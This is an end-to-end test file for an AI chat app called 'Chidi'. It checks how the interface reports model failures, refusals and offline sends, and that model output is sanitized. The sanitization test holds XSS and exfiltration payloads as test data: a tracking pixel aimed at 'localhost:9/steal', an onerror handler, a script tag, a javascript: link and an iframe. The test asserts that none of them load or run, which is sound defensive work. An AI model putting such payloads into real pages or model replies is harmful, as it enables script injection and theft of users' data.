import { answer, failure, type ModelReply } from '@commons/ai/testing';
import { allowProblem, expectAxeClean, expectOnlyOrigin } from '@commons/tooling/browser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type OpenChidi, openChidi } from './open-chidi.ts';

const failures: { name: string; reply: ModelReply; says: string; step: string }[] = [
  { name: 'a refused key', reply: failure(401), says: 'key', step: 'Try again' },
  { name: 'a rate limit', reply: failure(429), says: 'at its limit', step: 'Try again' },
  { name: 'a hang', reply: { kind: 'hang' }, says: 'too long', step: 'Try again' },
  { name: 'a server fault', reply: failure(500), says: 'reach', step: 'Try again' },
  {
    name: 'a cut stream',
    reply: { kind: 'cut', chunks: ['Half an answer'] },
    says: 'broke off',
    step: 'Continue',
  },
  { name: 'a malformed answer', reply: { kind: 'garbage' }, says: 'read', step: 'Try again' },
];

describe('an answer that fails', () => {
  let chidi: OpenChidi;

  beforeAll(async () => {
    // Long enough for a busy machine to answer where something answers.
    chidi = await openChidi({ timeouts: { firstTokenMs: 3_000, betweenTokensMs: 3_000 } });
    chidi.titler.replyOtherwise(answer('A title'));
  });

  afterAll(() => chidi[Symbol.asyncDispose]());

  it.each(failures)(
    'says what happened after $name and what to do, and keeps one question',
    async (fault) => {
      const person = await chidi.signUp();
      const business = await person.addBusiness({ offers: 'Bread' });
      chidi.model.reply(fault.reply);
      const exchange = await person.ask('What do we sell?', business.id);
      const page = await chidi.open(person, `/c/${exchange.conversationId}`);
      const log = page.getByRole('log');
      const step = log.getByRole('button', { name: fault.step });
      await step.waitFor();
      expect(await log.textContent()).toContain(fault.says);
      await expectAxeClean(page);

      chidi.model.reply(answer(' and this is the rest.'));
      await step.click();
      await log.getByText('and this is the rest.').waitFor();
      expect(
        (await person.messages(exchange.conversationId)).filter(({ role }) => role === 'user'),
      ).toHaveLength(1);
    },
  );

  it.each([
    {
      name: 'a conversation that is too long',
      reply: failure(400, { message: 'too many tokens', code: 'context_length_exceeded' }),
      says: 'too long for the model',
      step: 'New conversation',
    },
    {
      name: 'a refusal',
      reply: answer('', { finishReason: 'content_filter' }),
      says: 'declined to answer',
      step: 'Edit the question',
    },
  ])('leads on from $name', async ({ reply, says, step }) => {
    const person = await chidi.signUp();
    chidi.model.reply(reply);
    const exchange = await person.ask('Tell me everything.');
    const page = await chidi.open(person, `/c/${exchange.conversationId}`);
    await page.getByRole('log').getByText(says).waitFor();
    await page.getByRole('log').getByRole('button', { name: step }).click();
    // The question comes along, so that nobody types it twice.
    await expect.poll(() => page.getByPlaceholder('Ask Chidi').inputValue()).toBe('Tell me everything.');
  });

  it('keeps a question that the server did not take, and sends it once when it is back', async () => {
    const person = await chidi.signUp();
    await person.addBusiness({ offers: 'Bread' });
    const page = await chidi.open(person, '/');
    allowProblem(page, /Failed to load resource|ERR_/);
    const composer = page.getByPlaceholder('Ask Chidi');
    await composer.fill('Is anybody there?');
    await page.context().setOffline(true);
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByRole('alert').first().waitFor();
    expect(await composer.inputValue()).toBe('Is anybody there?');
    await page.context().setOffline(false);
    chidi.model.reply(answer('Yes, always.'));
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByRole('log').getByText('Yes, always.').waitFor();
    expect(
      await chidi.server.db.admin`
        select count(*)::int as sent from chidi.messages
        where user_id = ${person.userId} and content = 'Is anybody there?'`,
    ).toEqual([{ sent: 1 }]);
  });
});

describe('what a model writes', () => {
  let chidi: OpenChidi;

  beforeAll(async () => {
    chidi = await openChidi();
  });

  afterAll(() => chidi[Symbol.asyncDispose]());

  it('loads nothing from anywhere and runs nothing, however hostile it is', async () => {
    const person = await chidi.signUp();
    const hostile = [
      '![pixel](http://localhost:9/steal?d=secret)',
      '<img src="http://localhost:9/steal" onerror="document.title=\'stolen\'">',
      '<script>document.title = "stolen"</script>',
      '[click me](javascript:document.title="stolen")',
      '[docs](https://example.org/a?b=c)',
      '<iframe src="http://localhost:9/"></iframe>',
      '| a | b |\n|---|---|\n| 1 | 2 |',
      '```js\nalert(1)\n```',
      'The end of it.',
    ].join('\n\n');
    chidi.model.reply(answer(hostile));
    chidi.titler.reply(answer('<b>Title</b>\u202e'));
    const exchange = await person.ask('Show me something.');
    const page = await chidi.open(person, `/c/${exchange.conversationId}`);
    const log = page.getByRole('log');
    await log.getByText('The end of it.').waitFor();
    await log.getByRole('table').waitFor();
    expect(await log.locator('img, script, iframe, object, embed').count()).toBe(0);
    expect(await page.title()).not.toContain('stolen');
    const link = log.getByRole('link', { name: /docs/ });
    expect(await link.textContent()).toContain('example.org');
    expect(await link.getAttribute('rel')).toContain('noopener');
    expect(await log.getByRole('link', { name: /click me/ }).count()).toBe(0);
    expectOnlyOrigin(page, chidi.server.url);
  });
});
